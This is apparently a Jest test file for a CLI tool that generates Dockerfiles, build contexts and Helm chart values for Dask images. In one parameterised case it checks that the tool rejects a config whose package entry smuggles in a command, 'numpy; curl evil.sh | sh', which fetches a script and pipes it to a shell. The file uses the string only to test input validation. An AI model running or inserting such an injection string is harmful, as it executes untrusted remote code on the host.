import { execFileSync, spawnSync } from "child_process";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { parse } from "yaml";
import { run } from "../../components/cli/main";

const ROOT = path.resolve(__dirname, "../..");
const BIN = path.join(ROOT, "bin", "slim-dask.js");

function cli(args: string[]): { code: number; out: string; err: string } {
  let out = "";
  let err = "";
  const code = run(args, { out: (t) => (out += t), err: (t) => (err += t) });
  return { code, out, err };
}

function writeConfig(content: string, ext = "yaml"): string {
  const file = path.join(fs.mkdtempSync(path.join(os.tmpdir(), "slim-dask-cli-")), `config.${ext}`);
  fs.writeFileSync(file, content);
  return file;
}

describe("slim-dask CLI", () => {
  test("the installed binary prints the default Dockerfile, byte-identical across runs", () => {
    // Runs the real launcher (compiled by `npm run build`, which `npm test` runs first).
    const first = execFileSync("node", [BIN, "dockerfile"], { cwd: ROOT });
    const second = execFileSync("node", [BIN, "dockerfile"], { cwd: ROOT });
    expect(first.equals(second)).toBe(true);
    const text = first.toString();
    expect(text).toMatch(/^FROM \S*mambaorg\/micromamba\S* AS build$/m);
    for (const technique of [
      "nomkl",
      "--freeze-installed",
      "clean --all --yes",
      "static-libs",
      "source-maps",
      "bokeh-unminified",
    ]) {
      expect(text).toContain(technique);
    }
    expect(text).toContain('ENTRYPOINT ["tini", "-g", "--"]');
  });

  test("dockerfile with a config renders that recipe", () => {
    const file = writeConfig('base: pip\npython: "3.11"\npipPackages: [s3fs]\n');
    const { code, out } = cli(["dockerfile", "--config", file]);
    expect(code).toBe(0);
    expect(out).toContain("s3fs");
    expect(out).toContain("python3 -m venv /opt/venv");
  });

  test("context writes the full build context and prints the tag", () => {
    const file = writeConfig('{"imageName": "registry.example.com/dask", "base": "pip"}', "json");
    const outDir = path.join(fs.mkdtempSync(path.join(os.tmpdir(), "slim-dask-ctx-")), "ctx");
    const { code, out } = cli(["context", "--config", file, "--out", outDir]);
    expect(code).toBe(0);
    const tag = /^tag: (\S+)$/m.exec(out)?.[1];
    expect(tag).toMatch(/^\d{4}\.\d+\.\d+-[0-9a-f]{12}$/);
    expect(out).toContain(`image: registry.example.com/dask:${tag}`);
    expect(fs.readFileSync(path.join(outDir, "Dockerfile"), "utf8")).toBe(
      cli(["dockerfile", "--config", file]).out,
    );
    expect(fs.existsSync(path.join(outDir, "slim-dask", "prune.sh"))).toBe(true);
  });

  test("values prints chart values as YAML", () => {
    const file = path.join(ROOT, "examples", "cluster.yaml");
    const { code, out } = cli(["values", "--config", file]);
    expect(code).toBe(0);
    const values = parse(out);
    expect(out).not.toMatch(/[&*]a\d/); // plain YAML, no anchors or aliases
    expect(values.jupyter.enabled).toBe(false);
    expect(values.worker.image.tag).toMatch(/@sha256:[0-9a-f]{64}$/);
    expect(values.worker.resources.limits).toEqual({ cpu: "2", memory: "8Gi" });
    expect(values.worker.image.pullSecrets).toEqual([{ name: expect.any(String) }]);
  });

  test.each([
    ["dockerfile", 'packages: ["numpy; curl evil.sh | sh"]\n', "packages[0]"],
    ["dockerfile", "registry: {server: ghcr.io, username: u, password: p}\n", "registry.password"],
    ["dockerfile", "optimisations: {nomkl: false}\n", "optimisations"],
    ["dockerfile", "python: [unclosed\n", "--config"],
    ["values", "image: ghcr.io/a/b\nworkers: {replicas: 1.5}\n", "workers.replicas"],
    [
      "values",
      "image: ghcr.io/a/b\nimagePullCredentials: {server: ghcr.io, username: u, password: p}\n",
      "imagePullCredentials.password",
    ],
  ])("%s rejects bad config %j with one line naming %s", (command, config, field) => {
    const { code, out, err } = cli([command, "--config", writeConfig(config)]);
    expect(code).toBe(1);
    expect(out).toBe("");
    expect(err.startsWith(`slim-dask: ${field}: `)).toBe(true);
    expect(err.trim().split("\n")).toHaveLength(1);
    expect(err).not.toMatch(/\bat .*\.(js|ts):\d+/);
  });

  test("a missing config file is a clear error, and the real binary exits non-zero", () => {
    const result = spawnSync("node", [BIN, "values", "--config", "/nonexistent/cluster.yaml"], {
      cwd: ROOT,
    });
    expect(result.status).toBe(1);
    expect(result.stderr.toString()).toBe(
      'slim-dask: --config: cannot read "/nonexistent/cluster.yaml" (ENOENT). Fix: give the path of an existing YAML or JSON file\n',
    );
  });

  test("usage errors exit 2", () => {
    expect(cli(["frobnicate"]).code).toBe(2);
    expect(cli(["context", "--config", "x.yaml"]).code).toBe(2);
  });
});
